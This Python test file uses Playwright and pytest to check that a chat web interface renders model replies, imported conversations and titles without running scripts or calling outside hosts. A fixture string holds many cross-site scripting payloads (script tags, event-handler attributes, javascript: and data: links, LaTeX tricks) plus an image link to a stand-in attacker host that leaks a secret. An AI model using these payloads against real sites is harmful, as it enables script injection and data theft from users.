"""What a model says, what a file is called and what a message holds runs nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, expect

from tests.web.conftest import Served
from tests.web.screen import act, ask, ended, last_reply

ATTACKS = """<script>window.hit = 1</script>

<img src=x onerror="window.hit = 2">

<svg onload="window.hit = 3"><script>window.hit = 4</script></svg>

[click](javascript:window.hit=5) [data](data:text/html,<script>window.hit=6</script>) [vb](vbscript:x)

![leak](https://attacker.example/steal?q=secret) ![js](javascript:window.hit=7)

<a href="javascript:window.hit=8" onclick="window.hit=9">x</a> <iframe srcdoc="<script>parent.hit=10</script>"></iframe>

<details open ontoggle="window.hit=11"></details> <style>body { display: none }</style>

[ok](https://example.org "t\\" onmouseover=window.hit=12") <https://example.org/"onmouseover="window.hit=13">

$\\href{javascript:window.hit=14}{x}$ and $\\htmlData{a=b}{y}$ and $$\\includegraphics{https://attacker.example/x.png}$$

```html" onmouseover="window.hit=15
<script>window.hit = 16</script>
```

| <img src=x onerror=window.hit=17> | b |
| - | - |
| <math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=18> | c |

- <form><button formaction="javascript:window.hit=19">go</button></form>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, built: None) -> Iterator[Served]:
    with Served(tmp_path_factory.mktemp("hostile"), script=[{"thought": ATTACKS, "answer": ATTACKS}]) as served:
        yield served


def test_nothing_that_a_model_says_runs(browser: Browser, hostile: Served) -> None:
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    broken: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda told: broken.append(told.text) if "Content Security" in told.text else None)
    page.on("dialog", lambda dialog: broken.append(dialog.message))
    page.goto(hostile.url)
    ask(page, "<img src=x onerror='window.hit = 20'> [x](javascript:window.hit=21)")
    reply = ended(page)
    reply.get_by_role("button", name="Thought").click()
    expect(reply.locator(".thinking")).to_contain_text("window.hit = 1")
    links = reply.locator("a").evaluate_all("links => links.map(one => ['href', 'rel'].map(n => one.getAttribute(n)))")
    assert links
    for address, relation in links:
        assert re.match(r"https?:", address or "")
        assert relation == "noopener noreferrer nofollow"
    hovered = reply.locator(".markdown *").evaluate_all(
        """elements => {
          const init = { bubbles: true, cancelable: true, composed: true }
          for (const one of elements) one.dispatchEvent(new MouseEvent('mouseover', init))
          return elements.length
        }"""
    )
    assert hovered
    for view in ("Raw", "Tokens"):
        act(reply, view)
        expect(reply).to_contain_text("window.hit = 1")
    page.reload()
    ended(page)
    assert page.evaluate("() => window.hit ?? null") is None
    assert [url for url in asked if not url.startswith(hostile.url)] == []
    assert broken == []
    made = last_reply(page).evaluate(
        "element => element.querySelectorAll('script, iframe, object, form, img, style, [onerror]').length"
    )
    assert made == 0
    context.close()


def test_the_policy_lets_nothing_else_run(hostile: Served) -> None:
    policy = httpx.get(hostile.url).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy


def test_an_imported_conversation_runs_nothing(browser: Browser, hostile: Served) -> None:
    line = '{"messages": [{"role": "user", "content": "ATTACK"}, {"role": "assistant", "content": "ATTACK"}]}'
    body = line.replace("ATTACK", "<img src=x onerror='window.hit=1'><b title='x'>")
    made = httpx.post(f"{hostile.url}/api/import", content=body, headers={"content-type": "text/plain"}).json()
    httpx.patch(f"{hostile.url}/api/conversations/{made[0]['id']}", json={"title": "<img src=x onerror='hit=1'>"})
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{hostile.url}/#/c/{made[0]['id']}")
    expect(last_reply(page)).to_contain_text("<img src=x")
    assert page.evaluate("() => window.hit ?? null") is None
    context.close()
